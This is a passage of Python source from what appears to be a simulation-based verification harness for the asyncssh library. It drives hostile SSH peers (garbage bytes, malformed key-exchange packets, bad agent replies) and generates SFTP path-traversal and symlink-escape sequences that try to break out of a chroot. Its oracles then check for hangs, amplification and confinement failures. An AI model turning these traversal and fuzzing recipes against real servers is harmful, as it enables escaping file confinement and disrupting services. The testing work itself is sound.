                plan['list_reply'] in AGENT_SHAPES and \
                plan['sign_reply'] in AGENT_SHAPES

        if plan['mode'] == 'bytes':
            for op in plan['ops']:
                if op[0] not in ('version_ok', 'garbage', 'line', 'lines',
                                 'nul', 'hugever', 'pkt', 'close', 'kexinit'):
                    return False

                need = {'garbage': 2, 'line': 2, 'lines': 3, 'nul': 2,
                        'hugever': 2, 'pkt': 4, 'kexinit': 4}.get(op[0], 1)

                if len(op) != need or any(not isinstance(x, int) or x < 0 or
                                          x > 1 << 32 for x in op[1:]):
                    return False

                if op[0] in ('garbage', 'hugever', 'line', 'nul') and \
                        op[1] > 200000:
                    return False

                if op[0] == 'lines' and op[1] * (op[2] + 1) > 2000000:
                    return False

                if op[0] == 'pkt' and op[3] > 100000:
                    return False

            return True

        for m in plan['msgs']:
            if m['shape'] not in ('asis', 'truncate', 'extend', 'rawtype') \
                    or m['chan'] not in ('valid', 'unknown', 'max'):
                return False

        if 'legal_burst' in plan:
            b = plan['legal_burst']

            if plan['role'] != 'server' or plan['msgs'] or \
                    not plan['auth_first'] or len(b) < 2 or \
                    b[-1] not in ('close', 'eof', 'none') or \
                    any(x not in ('agent', 'x11', 'window-change', 'signal',
                                  'break', 'env', 'pty-req', 'keepalive')
                        for x in b[:-1]) or \
                    plan['open'] != {'window': 1 << 20, 'maxpkt': 32768}:
                return False

        return plan['cmp'] in ('none', 'zlib', 'zlib@openssh.com') and \
            0 <= plan['app_write'] <= 100000
    except (KeyError, TypeError, IndexError):
        return False


class RawPeer(asyncio.Protocol):
    """Byte-level hostile endpoint"""

    def __init__(self, sim, ops, rnd):
        self.sim = sim
        self.ops = ops
        self.rng = Rng('raw:%d' % rnd)
        self.transport = None
        self.sent = 0
        self.received = 0
        self.lost = False

    def connection_made(self, transport):
        self.transport = transport
        self.sim.track('raw-script', self.script())

    def data_received(self, data):
        self.received += len(data)

    def connection_lost(self, exc):
        self.lost = True

    def write(self, data):
        if self.transport is not None and not self.transport.is_closing():
            self.sent += len(data)
            self.transport.write(data)

    async def script(self):
        for op in self.ops:
            k = op[0]

            if k == 'version_ok':
                self.write(b'SSH-2.0-Hostile_1.0\r\n')
            elif k == 'garbage':
                self.write(self.rng.bytes(op[1]))
            elif k == 'line':
                self.write(b'a' * op[1] + b'\r\n')
            elif k == 'lines':
                self.write((b'b' * op[2] + b'\n') * op[1])
            elif k == 'nul':
                self.write(bytes(op[1]))
            elif k == 'hugever':
                self.write(b'SSH-2.0-' + b'v' * op[1] + b'\r\n')
            elif k == 'pkt':
                body = bytes([op[2]]) + self.rng.bytes(op[3])
                self.write(u32(op[1]) + body)
            elif k == 'kexinit':
                # a correctly framed cleartext KEXINIT whose name-lists are
                # what this endpoint supports, except one that is spoiled
                lists = [b'curve25519-sha256,ecdh-sha2-nistp256',
                         b'ssh-ed25519,rsa-sha2-256,ecdsa-sha2-nistp256',
                         b'aes128-ctr', b'aes128-ctr', b'hmac-sha2-256',
                         b'hmac-sha2-256', b'none', b'none', b'', b'']
                r = Rng('kexinit:%d' % op[3])

                if op[1] < 10:
                    lists[op[1]] = [
                        b'\xff\xfe-no-such@example.invalid', b'',
                        r.bytes(20), b'a,' * 3000 + b'b', b',,,',
                        b'no-such-algorithm'][op[2] % 6]

                payload = bytes([20]) + r.bytes(16) + \
                    b''.join(string(v) for v in lists) + bytes(5)
                pad = 8 - (len(payload) + 5) % 8
                pad += 8 if pad < 4 else 0
                self.write(u32(len(payload) + pad + 1) + bytes([pad]) +
                           payload + bytes(pad))
            else:
                if self.transport is not None:
                    self.transport.close()

                return

            await self.sim.pause('raw')


class EchoSess(asyncssh.SSHServerSession):
    def __init__(self, n):
        self.n = n
        self.chan = None

    def connection_made(self, chan):
        self.chan = chan

    def shell_requested(self):
        return True

    def exec_requested(self, command):
        return True

    def subsystem_requested(self, subsystem):
        return True

    def session_started(self):
        if self.n:
            self.chan.write(b'w' * self.n)

    echoed = [0]

    def data_received(self, data, datatype):
        # (what the application writes back is its own output, sent in
        # packets as small as the peer asked for: counted, see the bound)
        EchoSess.echoed[0] += len(data)
        self.chan.write(data)


class HServer(RecServer):
    def __init__(self, world, plan):
        super().__init__(world)
        self.plan = plan

    def begin_auth(self, username):
        return True

    def password_auth_supported(self):
        return True

    def validate_password(self, username, password):
        return (username, password) == ('alice', 'pw-alice')

    def public_key_auth_supported(self):
        return True

    def validate_public_key(self, username, k):
        return self.plan.get('mode') == 'agent' and username == 'alice' and \
            k.public_data == pubkey('user_ed25519').public_data

    def kbdint_auth_supported(self):
        return True

    def get_kbdint_challenge(self, username, lang, submethods):
        return 't', 'i', '', [('p', False)]

    def validate_kbdint_response(self, username, responses):
        return False

    def session_requested(self):
        return EchoSess(self.plan.get('app_write', 0))

    def connection_requested(self, dest_host, dest_port, oh, op):
        class T(asyncssh.SSHTCPSession):
            pass

        return T()

    def server_requested(self, listen_host, listen_port):
        return False


def run_plan(plan, sched_seed=None, sched_replay=None):
    world = World(plan, sched_seed, sched_replay)
    sim = world.sim
    # a legal burst is bounded by what the application asked to send (in
    # the worst case 1-byte packets, each preceded by an IGNORE)
    sim.work_limit = 3000 + 4 * plan.get('app_write', 0)
    EchoSess.echoed[0] = 0
    role = plan['role']
    owners = []
    res = {'conn': None, 'exc': None, 'peer': None, 'raw': None,
           'delivered': 0}
    rand = seams._urandom

    def sfactory():
        o = HServer(world, plan)
        owners.append(o)
        return o

    def cfactory():
        o = RecClient(world)
        owners.append(o)
        return o

    class CSess(asyncssh.SSHClientSession):
        def connection_made(self, chan):
            self.chan = chan

    async def keyed_hostile(peer, sender):
        """Hostile dialogue after the handshake"""

        chan_them = 0
        chan_ours = 7
        opened = False
        await peer.handshake()

        if sender == 'client':
            peer.send(bytes([5]) + string(b'ssh-userauth'))
            await peer.expect(6)

            if plan['auth_first']:
                peer.send(bytes([50]) + string(b'alice') +
                          string(b'ssh-connection') + string(b'password') +
                          boolean(False) + string(b'pw-alice'))

                while True:
                    p = await peer.recv()

                    if p[0] == 52:
                        break

                peer.authed = True
                o = plan['open']
                peer.send(bytes([90]) + string(b'session') + u32(chan_ours) +
                          u32(o['window']) + u32(o['maxpkt']))

                while True:
                    p = await peer.recv()

                    if p[0] == 91:
                        chan_them = Reader(p, 5).u32()
                        opened = True
                        break

                    if p[0] == 92:
                        break

                if opened:
                    peer.send(bytes([98]) + u32(chan_them) + string(b'exec') +
                              boolean(True) + string(b'cmd'))
        else:
            await peer.expect(5)
            peer.send(bytes([6]) + string(b'ssh-userauth'))

            if plan['auth_first']:
                while True:
                    p = await peer.recv()

                    if p[0] == 50:
                        break

                peer.send(bytes([52]))
                peer.authed = True

                # wait for the client's session open and confirm it with
                # the drawn window / packet size
                while True:
                    p = await peer.recv()

                    if p[0] == 90:
                        r = Reader(p, 1)
                        r.string()
                        chan_them = r.u32()
                        o = plan['open']
                        peer.send(bytes([91]) + u32(chan_them) +
                                  u32(chan_ours) + u32(o['window']) +
                                  u32(o['maxpkt']))
                        opened = True
                        break

                # answer the exec request so the client app starts writing
                while True:
                    p = await peer.recv()

                    if p[0] == 98:
                        peer.send(bytes([99]) + u32(chan_them))
                        break

        if plan.get('legal_burst') and opened and sender == 'client':
            sim.probes['legal_request_burst'] += 1
            reqs = {
                'agent': string(b'auth-agent-req@openssh.com') +
                boolean(False),
                'x11': string(b'x11-req') + boolean(False) + boolean(False) +
                string(b'MIT-MAGIC-COOKIE-1') + string(b'00' * 16) + u32(0),
                'window-change': string(b'window-change') + boolean(False) +
                u32(80) + u32(24) + u32(0) + u32(0),
                'signal': string(b'signal') + boolean(False) +
                string(b'INT'),
                'break': string(b'break') + boolean(True) + u32(100),
                'env': string(b'env') + boolean(True) + string(b'A') +
                string(b'B'),
                'pty-req': string(b'pty-req') + boolean(True) +
                string(b'xterm') + u32(80) + u32(24) + u32(0) + u32(0) +
                string(b'\x00'),
                'keepalive': string(b'keepalive@openssh.com') +
                boolean(True),
            }

            for name in plan['legal_burst']:
                if name == 'close':
                    peer.send(bytes([97]) + u32(chan_them))
                elif name == 'eof':
                    peer.send(bytes([96]) + u32(chan_them))
                elif name != 'none':
                    peer.send(bytes([98]) + u32(chan_them) + reqs[name])

                res['delivered'] += 20

        tl = templates(sender, chan_them, chan_ours)

        for m in plan['msgs']:
            if peer.closed is not None:
                break

            t, fields = tl[m['tmpl'] % len(tl)]
            fields = list(fields)

            if m['chan'] != 'valid' and fields and fields[0] == ('u32',
                                                                  chan_them):
                fields[0] = ('u32', 77 if m['chan'] == 'unknown'
                             else 0xffffffff)

            r = Rng('msg:%d' % m['rnd'])
            body = render(fields, m['muts'], r)

            if m['shape'] == 'truncate' and body:
                body = body[:r.below(len(body))]
            elif m['shape'] == 'extend':
                body += r.bytes(1 + r.below(8))
            elif m['shape'] == 'rawtype':
                t = r.below(256)

            peer.send(bytes([t]) + body)
            res['delivered'] += 1 + len(body)
            await sim.pause('hostile')

        # drain replies until quiescent
        try:
            while True:
                await peer.recv(skip=())
        except Closed:
            pass

    class HostileAgent(asyncio.Protocol):
        """Answers agent requests with drawn shapes"""

        def __init__(self):
            self.buf = b''
            self.t = None
            self.rng = Rng('agent:%d' % plan['rnd'])

        def connection_made(self, transport):
            self.t = transport

        def data_received(self, data):
            self.buf += data

            while len(self.buf) >= 4:
                n = int.from_bytes(self.buf[:4], 'big')

                if len(self.buf) < 4 + n:
                    return

                msg, self.buf = self.buf[4:4 + n], self.buf[4 + n:]
                self.answer(msg)

        def frame(self, payload):
            res['delivered'] += 4 + len(payload)
            self.t.write(u32(len(payload)) + payload)

        def answer(self, msg):
            from simkit.refssh.peer import public_blob, sign as ref_sign
            kind = msg[0] if msg else 0
            shape = plan['list_reply'] if kind == 11 else plan['sign_reply']
            priv = load_private('user_ed25519')
            blob = public_blob(priv)

            if kind == 11:
                good = bytes([12]) + u32(1) + string(blob) + string(b'k')
            elif kind == 13:
                try:
                    r = Reader(msg, 1)
                    r.string()
                    data = r.string()
                except Short:
                    data = b''

                good = bytes([14]) + string(ref_sign(priv, b'ssh-ed25519',
                                                     data))
            else:
                good = bytes([5])

            if shape == 'ok':
                self.frame(good)
            elif shape == 'failure':
                self.frame(bytes([5]))
            elif shape == 'wrong_type':
                self.frame(bytes([self.rng.below(256)]) + good[1:])
            elif shape == 'empty_frame':
                self.frame(b'')
            elif shape == 'huge_count':
                self.frame(bytes([good[0]]) + u32(0xffffffff) + good[5:])
            elif shape == 'truncated':
                self.frame(good[:1 + self.rng.below(max(1, len(good) - 1))])
            elif shape == 'huge_frame':
                res['delivered'] += 12
                self.t.write(u32(0x7fffffff) + good[:8])
                self.t.close()
            elif shape == 'garbage':
                self.frame(self.rng.bytes(1 + self.rng.below(60)))
            elif shape == 'close':
                self.t.close()
            elif shape == 'extra_bytes':
                self.frame(good + self.rng.bytes(3))
            elif shape == 'zero_len_fields':
                self.frame(bytes([good[0]]) + (u32(1) + string(b'') +
                                               string(b'') if kind == 11
                                               else string(b'')))
            else:
                self.frame(good)
                self.frame(good)

    async def main():
        if plan['mode'] == 'agent':
            acc = await asyncssh.listen(
                '127.0.0.1', 22, server_factory=sfactory,
                **server_opts(encoding=None, login_timeout=30))
            agent_srv = await sim.loop.create_unix_server(HostileAgent,
                                                          '/agent.sock')

            async def client():
                try:
                    conn = await asyncssh.connect(
                        '127.0.0.1', 22, client_factory=cfactory,
                        **client_opts(
                            known_hosts=([pubkey('host_ed25519')], [], []),
                            username='alice', password='pw-alice',
                            client_keys=(), agent_path='/agent.sock',
                            login_timeout=30))
                    res['conn'] = conn
                    sim.probes['agent_client_admitted'] += 1
                except Exception as exc: # pylint: disable=broad-except
                    res['exc'] = exc

            sim.track('client', client())
            await world.gate('done')

            if res['conn'] is not None:
                res['conn'].close()
                await res['conn'].wait_closed()

            agent_srv.close()
            acc.close()
            await acc.wait_closed()
        elif role == 'server':
            acc = await asyncssh.listen(
                '127.0.0.1', 22, server_factory=sfactory,
                **server_opts(encoding=None, login_timeout=30,
                              compression_algs=[plan.get('cmp', 'none')]))

            if plan['mode'] == 'bytes':
                raw = RawPeer(sim, plan['ops'], plan['drbg'])
                res['raw'] = raw
                await sim.loop.create_connection(lambda: raw, '127.0.0.1', 22)
            else:
                peer = RefPeer(sim, 'client', rand=rand,
                               version=plan['version'].encode(),
                               cmp=[plan['cmp']])
                res['peer'] = peer
                await sim.loop.create_connection(lambda: peer, '127.0.0.1',
                                                 22)

                async def runner():
                    try:
                        await keyed_hostile(peer, 'client')
                    except (PeerError, Closed, Short) as exc:
                        res['peer_exc'] = exc

                sim.track('hostile', runner())

            await world.gate('done')
            acc.close()
            await acc.wait_closed()
        else:
            def factory():
                if plan['mode'] == 'bytes':
                    raw = RawPeer(sim, plan['ops'], plan['drbg'])
                    res['raw'] = raw
                    return raw

                peer = RefPeer(sim, 'server', rand=rand,
                               version=plan['version'].encode(),
                               host_keys=[load_private('host_ed25519')],
                               cmp=[plan['cmp']])
                res['peer'] = peer

                async def runner():
                    try:
                        await keyed_hostile(peer, 'server')
                    except (PeerError, Closed, Short) as exc:
                        res['peer_exc'] = exc

                sim.track('hostile', runner())
                return peer

            srv = await sim.loop.create_server(factory, '127.0.0.1', 22)

            async def client():
                try:
                    conn = await asyncssh.connect(
                        '127.0.0.1', 22, client_factory=cfactory,
                        **client_opts(
                            known_hosts=([pubkey('host_ed25519')], [], []),
                            username='alice', password='pw-alice',
                            login_timeout=30,
                            # (makes the hostkeys-00 rotation request of a
                            # hostile server reach its parser)
                            server_host_keys_handler=lambda *a: None,
                            compression_algs=[plan.get('cmp', 'none')]))
                    res['conn'] = conn

                    if plan['mode'] == 'keyed' and plan['auth_first']:
                        chan, _ = await conn.create_session(
                            CSess, command='cmd', encoding=None)

                        if plan['app_write']:
                            chan.write(b'c' * plan['app_write'])
                except Exception as exc: # pylint: disable=broad-except
                    res['exc'] = exc

            sim.track('client', client())
            await world.gate('done')

            if res['conn'] is not None:
                res['conn'].close()
                await res['conn'].wait_closed()

            srv.close()

    world.start(main())
    world.run_phase()

    peer = res['peer']

    if peer is not None and peer.bug:
        world.close()
        from simkit.runner import HarnessError
        raise HarnessError('RefPeer stub crashed:\n' + peer.bug)

    # -- oracles ----------------------------------------------------------------------
    if sim.spin:
        world.violation('spin', sim.spin + ' (plan open=%r version=%r cmp=%r)'
                        % (plan.get('open'), plan.get('version'),
                           plan.get('cmp')),
                        sig='pktsize' if plan.get('open', {}).get('maxpkt', 9)
                        in (0, 1) else 'other')
    elif sim.loop.capped:
        world.violation('no-quiescence', 'step cap hit: iterations=%d t=%.0f'
                        % (sim.loop.iterations, sim.loop.time()))

    hostile_in = (res['raw'].sent if res['raw'] else 0) + \
        (sum(len(p) for p in peer.sent) if peer else 0) + \
        (res['delivered'] if plan['mode'] == 'agent' else 0)
    out_bytes = sum(t.out.written_total for t in sim.net.transports
                    if isinstance(t._protocol, asyncssh.SSHClientConnection
                                  if role == 'client'
                                  else asyncssh.SSHServerConnection))

    if out_bytes > 16 * hostile_in + 65536 + \
            400 * (plan.get('app_write', 0) + EchoSess.echoed[0]):
        world.violation('amplification', 'endpoint wrote %d bytes for %d '
                        'hostile input bytes' % (out_bytes, hostile_in))

    if plan.get('legal_burst') and world.internal_errors:
        # every message of this dialogue was legal: an exception inside the
        # library ended a connection that had done nothing wrong
        world.violation('internal-error', 'a burst of legal channel '
                        'requests %r ended the connection with an internal '
                        'error: %s' % (plan['legal_burst'],
                                       world.internal_errors[0]),
                        sig=world.internal_errors[0].split('(')[0])

    for msg, exc in sim.loop_errors:
        if 'never retrieved' in msg:
            sim.probes['unretrieved_future_exception'] += 1
        else:
            world.violation('loop-exception', 'exception escaped to the '
                            'event loop: %s %s' % (msg, exc),
                            sig=exc.split('(')[0])

    for o in owners:
        if len(o.lost) > 1:
            world.violation('lost-twice', 'owner connection_lost called %d '
                            'times' % len(o.lost))

        if o.lost:
            if o.lost[0] is None and plan['mode'] == 'bytes':
                world.violation('clean-close', 'connection fed with hostile '
                                'bytes ended with connection_lost(None)')
            elif o.lost[0] is not None:
                sim.probes['conn_ended_with_error'] += 1
                world.states.add(type(o.lost[0]).__name__)
        else:
            sim.probes['conn_survived'] += 1

    if not sim.loop.capped:
        hung = [t.sim_name for t in sim.tracked
                if not t.done() and t.sim_name == 'client']

        if hung:
            world.violation('hang', 'connect()/session never completed '
                            'against the hostile peer: %r' % hung)

        if role == 'client' and res['exc'] is not None and \
                not isinstance(res['exc'], (asyncssh.Error, OSError)):
            # e.g. PacketDecodeError surfacing through a waiter: an error
            # is reported, which is all the statement asks of a connection
            sim.probes['api_raised_' + type(res['exc']).__name__] += 1

    if not sim.spin:
        world.open_gate('done')
        world.run_phase()

    sim.probes['mode_' + plan['mode']] += 1
    sim.probes['role_' + role] += 1

    if plan['mode'] == 'keyed':
        sim.probes['postauth_hostile' if plan['auth_first']
                   else 'preauth_hostile'] += 1

        if plan['open']['maxpkt'] in EXTREMES:
            sim.probes['extreme_pktsize'] += 1

        if plan['open']['window'] in EXTREMES:
            sim.probes['extreme_window'] += 1
    elif plan['mode'] == 'bytes':
        kinds = {op[0] for op in plan['ops']}

        if 'hugever' in kinds:
            sim.probes['version_line_attack'] += 1

        if 'lines' in kinds or 'line' in kinds:
            sim.probes['banner_attack'] += 1

        if 'pkt' in kinds or 'garbage' in kinds:
            sim.probes['binary_garbage'] += 1

    sample = {k: plan[k] for k in plan if k not in ('profile', 'drbg')}
    sample['owner_lost'] = [repr(e)[:80] for o in owners for e in o.lost]
    sample['hostile_bytes'] = hostile_in
    sample['endpoint_bytes_out'] = out_bytes
    return world.result(nontrivial=hostile_in > 0, sample=sample)
