"""C13 -- file serving and downloading never leave their directory."""

import os
import shutil
import tempfile

import asyncssh

from simkit import fsaudit
from simkit.sftpstub import StubSftpServer, MemFS, RawSftp, attrs_v3
from simkit import sftpstub as W
from simkit.sshwire import Reader, Short, string, u32, u64
from simkit.world import World, RecClient, RecServer, client_opts, \
    server_opts

ID = 'C13'
NAME = 'confinement'
QUICK_S = 45
THOROUGH_S = 900
CHUNK = 30

RULE = ('server population: a real SFTPServer(chroot=root) on real files is '
        'driven by a scripted raw SFTP requester with sequences (up to 10) of '
        'open/write/close, stat, lstat, setstat, opendir+readdir, remove, '
        'mkdir, rmdir, realpath, rename, posix-rename, readlink, symlink, '
        'hardlink, statvfs whose path byte strings come from a grammar over '
        '{.., ., empty component, repeated/leading slashes, names of existing '
        'files/dirs/symlinks, the absolute real paths of the root and of a '
        'directory next to it, long and non-UTF-8 names}; an audit hook plus '
        'wrapped os.stat/lstat/readlink/statvfs/access record every path the '
        'process touches, resolved at the time of the call (parent fully, '
        'final component when followed): all must lie inside the root, and a '
        'snapshot of sentinel files next to the root must be unchanged. '
        'download population: a real SFTP client get(recurse=True) and a real '
        'scp() sink fetch from a hostile source that returns directory '
        'entries / SCP records with names from the same grammar, repeated '
        'names changing type (symlink then directory), and symlink targets '
        'outside; afterwards nothing outside the destination may have been '
        'created or changed. Non-trivial = at least one hostile path/name was '
        'processed; distinct = (plan, schedule, trace) signature.')

ASSUMPTIONS = [
    'simulated event loop admits exactly asyncio-legal executions',
    'the confinement root contains no symlink placed by its administrator; '
    'only links created through the protocol are considered',
    'paths under the interpreter, /repo and /verif (imports) are ignored by '
    'the recorder',
]

REAL = ['asyncssh SFTPServer + SFTPServerHandler on real files (server '
        'population); asyncssh SFTPClient.get and scp sink writing real files '
        '(download population); SSH transport of both endpoints']
STUB = ['event loop + clock', 'TCP', 'executor', 'raw SFTP requester',
        'hostile SFTP/SCP source', 'filesystem access recorder']
PROBES = ['get_by_pattern', 'pop_server', 'pop_get', 'pop_scp', 'dotdot_path', 'abs_path',
          'symlink_created', 'rename_done', 'op_error_status',
          'outside_sentinels_checked', 'hostile_name_rejected']

_base = [None]


def new_dir():
    if _base[0] is None:
        root = '/dev/shm' if os.path.isdir('/dev/shm') else None
        _base[0] = tempfile.mkdtemp(prefix='verif_c13_', dir=root)
        import atexit
        atexit.register(shutil.rmtree, _base[0], True)

    return tempfile.mkdtemp(dir=_base[0])


COMPONENTS = ['..', '..', '.', '', 'a', 'a', 'sub', 'deep', 'f.txt', 'new',
              'lnk', 'lnk2', 'x' * 120, '\xff\xfe', '...', '.. ', 'a..']


def gen_path(rng, allow_abs=True):
    n = rng.weighted([(1, 4), (2, 4), (3, 3), (5, 2)])
    comps = [rng.choice(COMPONENTS) for _ in range(n)]
    lead = rng.weighted([('', 5), ('/', 3), ('//', 1)] +
                        ([('@ROOT@/', 2), ('@OUT@/', 2), ('@ROOT@/../', 1)]
                         if allow_abs else []))
    return lead + '/'.join(comps)


def gen_plan(rng):
    pop = rng.weighted([('server', 55), ('get', 30), ('scp', 15)])
    plan = {
        'drbg': rng.below(1 << 30),
        'profile': {'p_sched': rng.choice([0, 20, 60]),
                    'p_chunk': rng.choice([10, 50]),
                    'latency_ms': 0, 'capacity': 0},
        'pop': pop,
    }

    if pop == 'server':
        ops = []

        for _ in range(rng.between(1, 10)):
            k = rng.weighted([('open_w', 15), ('open_r', 8), ('stat', 8),
                              ('lstat', 5), ('setstat', 4), ('listdir', 8),
                              ('remove', 6), ('mkdir', 8), ('rmdir', 4),
                              ('realpath', 5), ('rename', 10),
                              ('posix_rename', 5), ('readlink', 4),
                              ('symlink', 12), ('link', 4), ('statvfs', 2)])

            if k in ('rename', 'posix_rename', 'link'):
                ops.append([k, gen_path(rng), gen_path(rng)])
            elif k == 'symlink':
                # [linkpath, target]
                ops.append([k, gen_path(rng), gen_path(rng)])
            else:
                ops.append([k, gen_path(rng)])

        if rng.chance(30):
            # in-flight state first, then the operation that exploits it: a
            # link that is fine where it is created, moved to where it is not
            deep = rng.choice(['sub/deep', 'sub', 'a', 'sub/deep/new'])
            link = deep + '/' + rng.choice(['lnk', 'lnk2'])
            target = rng.choice(['../../a', '../..', '..', '../../../outside',
                                 '../f.txt', '../../f.txt', '../a/../..'])
            dst = rng.choice(['lnk', 'a/lnk', 'lnk2', 'sub/lnk'])
            use = rng.choice([dst, dst + '/f.txt', dst + '/new',
                              dst + '/secret.txt', dst + '/outside/dir'])
            tmpl = [['mkdir', deep], ['symlink', link, target],
                    [rng.choice(['rename', 'posix_rename']), link, dst],
                    [rng.choice(['open_w', 'open_r', 'listdir', 'stat',
                                 'mkdir', 'remove']), use]]
            at = rng.below(len(ops) + 1)
            ops[at:at] = tmpl

        if rng.chance(25):
            # a link to a directory higher up, then a second link created
            # *through* it: the second one really lands where the first
            # points, not where its path string says
            deep = rng.choice(['sub/deep', 'a', 'sub/deep/new', 'sub'])
            depth = deep.count('/') + 1
            via = deep + '/' + rng.choice(['L', 'via'])
            up = rng.choice(['/'.join(['..'] * depth), '/',
                             '/'.join(['..'] * max(1, depth - 1))])
            evil = rng.choice(['../outside/secret.txt', '../outside',
                               '../f.txt', '../outside/dir/f.txt', '..'])
            name = rng.choice(['y', 'esc'])
            use = rng.choice([name, name + '/f.txt', name + '/new.txt',
                              'sub/' + name, 'a/' + name])
            tmpl = [['mkdir', deep], ['symlink', via, up],
                    ['symlink', via + '/' + name, evil],
                    [rng.choice(['open_r', 'open_w', 'stat', 'listdir',
                                 'remove', 'mkdir']), use]]
            at = rng.below(len(ops) + 1)
            ops[at:at] = tmpl

        if rng.chance(20):
            # a relative target with a 'name/..' pair in it: what the pair
            # means depends on what 'name' is at the time the link is used,
            # not at the time it was checked
            d = rng.choice(['', 'sub/', 'a/'])
            n = rng.choice(['n', 'new'])
            evil = rng.choice(['outside/secret.txt', 'f.txt', 'outside',
                               'outside/new.txt', 'esc.txt'])
            ups = '../' * (d.count('/') + 1)

            if rng.chance(50):
                # the name does not exist yet and becomes a link to '.'
                tmpl = [['symlink', d + 'L', n + '/' + ups + evil],
                        ['symlink', d + n, rng.choice(['.', '..', './.'])]]
            else:
                # the name is a link to a deeper place, later a directory
                tmpl = [['mkdir', d + 'p'], ['mkdir', d + 'p/q'],
                        ['symlink', d + n, 'p/q'],
                        ['symlink', d + 'L', n + '/../' + ups + evil],
                        ['remove', d + n], ['mkdir', d + n]]

            tmpl.append([rng.choice(['open_w', 'open_r', 'stat', 'listdir',
                                     'mkdir', 'remove', 'readlink']),
                         rng.choice([d + 'L', d + 'L/f.txt'])])
            at = rng.below(len(ops) + 1)
            ops[at:at] = tmpl

        if rng.chance(15):
            # a second name (hard link) for a relative symbolic link, in a
            # shallower directory
            deep = rng.choice(['sub/deep', 'sub', 'a'])
            depth = deep.count('/') + 1
            target = '../' * depth + rng.choice(['f.txt', 'a', 'a/f.txt'])
            dst = rng.choice(['hl', 'a/hl'] if depth > 1 else ['hl'])
            tmpl = [['symlink', deep + '/lnk', target],
                    ['link', deep + '/lnk', dst],
                    [rng.choice(['open_w', 'open_r', 'stat', 'listdir',
                                 'readlink']),
                     rng.choice([dst, dst + '/f.txt'])]]
            at = rng.below(len(ops) + 1)
            ops[at:at] = tmpl

        if rng.chance(8):
            # the root is an empty directory: the entry that names it lives
            # in its parent, outside
            plan['empty_root'] = True
            ops.insert(rng.below(len(ops) + 1),
                       ['rmdir', rng.choice(['', '.', '/', '/..', '..',
                                             'a/..', '//', './'])])

        plan['ops'] = ops
        plan['version'] = rng.choice([3, 3, 4, 6])
        return plan

    # hostile listings for downloads
    def listing(depth):
        out = []

        for _ in range(rng.between(1, 5)):
            name = rng.weighted([(gen_path(rng), 5),
                                 (rng.choice(['ok', 'dir1', 'lnk', 'lnk']), 4),
                                 ('@OUT@/abs_evil', 1)])
            kind = rng.choice(['f', 'f', 'd', 'l'])
            out.append([name, kind])

        return out

    plan['listing'] = listing(0)
    plan['sub'] = listing(1)
    plan['link_target'] = rng.choice(['@OUT@', '..', '../outside', '/',
                                      '@OUT@/dir', 'ok'])
    plan['preserve'] = rng.chance(30)
    plan['glob'] = rng.choice([None, None, '/src/*', '/src/*/*', '/s*/*']) \
        if pop == 'get' else None
    # the same names in every sub-directory, but from the second one on as
    # another kind (a link first, then a file or directory of that name)
    plan['sub_flip'] = rng.chance(40)

    if pop == 'get' and rng.chance(15):
        # two directories matched by a pattern, the same name in both
        plan['listing'] = [[rng.choice(['dir1', 'ok', 'a']), 'd'],
                           [rng.choice(['sub', 'lnk', 'deep']), 'd']]
        plan['sub'] = [[rng.choice(['x', 'ok', 'new']), 'l']] + \
            plan['sub'][:rng.below(3)]
        plan['glob'] = rng.choice(['/src/*/*', '/s*/*/*', '/src/*/[a-z]*'])
        plan['sub_flip'] = True
    elif rng.chance(12):
        # an entry without a name (or called '.'), as a directory: joined to
        # the directory being filled it names that directory again, where
        # the link of the first pass is then met as a file
        plan['listing'] = [[rng.choice(['x', 'lnk', 'ok']), 'l'],
                           [rng.choice(['', '', '.', './', '/']), 'd']] + \
            plan['listing'][:rng.below(3)]
        plan['sub_flip'] = True

        if rng.chance(50):
            plan['listing'].reverse()

        if pop == 'get':
            plan['glob'] = rng.choice([None, None, '/src/*', '/s*/*'])

        if rng.chance(70):
            # somewhere a file can be written (or one that exists)
            plan['link_target'] = rng.choice(
                ['../outside', '../keep.txt', '@OUT@/secret.txt',
                 '@OUT@/new.txt', '../new.txt'])

    return plan


def valid_plan(plan):
    try:
        if plan['pop'] == 'server':
            for op in plan['ops']:
                if not isinstance(op[0], str) or len(op) not in (2, 3) or \
                        not all(isinstance(x, str) for x in op[1:]):
                    return False

                if (op[0] in ('rename', 'posix_rename', 'link', 'symlink'))\
                        != (len(op) == 3):
                    return False

            return plan['version'] in (3, 4, 5, 6)

        for ent in plan['listing'] + plan['sub']:
            if len(ent) != 2 or ent[1] not in ('f', 'd', 'l') or \
                    not isinstance(ent[0], str):
                return False

        return plan['pop'] in ('get', 'scp')
    except (KeyError, TypeError, IndexError):
        return False


def _norm(p):
    parts = []

    for c in p.split('/'):
        if c in ('', '.'):
            continue

        if c == '..':
            if parts:
                parts.pop()

            continue

        parts.append(c)

    return parts


def history_sig(ops, default, touched=None):
    """Name the specific history behind a confinement failure.

       symlink-renamed-upward: a symbolic link with a relative target,
       created through the protocol, whose own path (or a directory above
       it) was later renamed to a shallower place, so that the unchanged
       relative target now resolves outside the root.

       symlink-through-link: a symbolic link whose own path runs through an
       earlier link, so that it really lands somewhere else than its path
       string says.

       `touched` (path components below the root of what was accessed)
       narrows the verdict to links lying on that path."""

    links = []     # [current path, renamed upward?, created through a link?]
    verdicts = set()

    def judge():
        # a link whose target runs through a link that was moved upward
        # leads wherever that one leads: the move is behind both
        changed = True

        while changed:
            changed = False

            for l in links:
                if not l[1] and l[3] is not None and any(
                        m is not l and m[1] and l[3][:len(m[0])] == m[0]
                        for m in links):
                    l[1] = True
                    changed = True

        if touched is not None:
            on_path = [l for l in links if touched[:len(l[0])] == l[0]]
            # a link created through another one lands where that one
            # points: its name then shows up below the place pointed to
            on_path += [l for l in links if l[2] and l[0][-1:] == touched[:1]]
        else:
            on_path = links

        if any(l[1] for l in on_path):
            verdicts.add('symlink-renamed-upward')

        if any(l[2] for l in on_path):
            verdicts.add('symlink-through-link')

    for op in ops:
        if op[0] == 'symlink' and '@' not in op[2]:
            path = _norm(op[1])
            through = any(path[:len(l[0])] == l[0] and len(path) > len(l[0])
                          for l in links)
            target = _norm(op[2]) if op[2].startswith('/') else \
                _norm('/'.join(path[:-1] + [op[2]]))
            links.append([path, False, through and
                          not op[2].startswith('/'), target])
        elif op[0] in ('rename', 'posix_rename'):
            src, dst = _norm(op[1]), _norm(op[2])

            if not src:
                continue

            for l in links:
                if l[0][:len(src)] == src:
                    l[0] = dst + l[0][len(src):]

                    if len(dst) < len(src):
                        l[1] = True

        # (the failing access may have happened at any point of the history)
        judge()

    if 'symlink-renamed-upward' in verdicts:
        return 'symlink-renamed-upward'

    if 'symlink-through-link' in verdicts:
        return 'symlink-through-link'

    return default


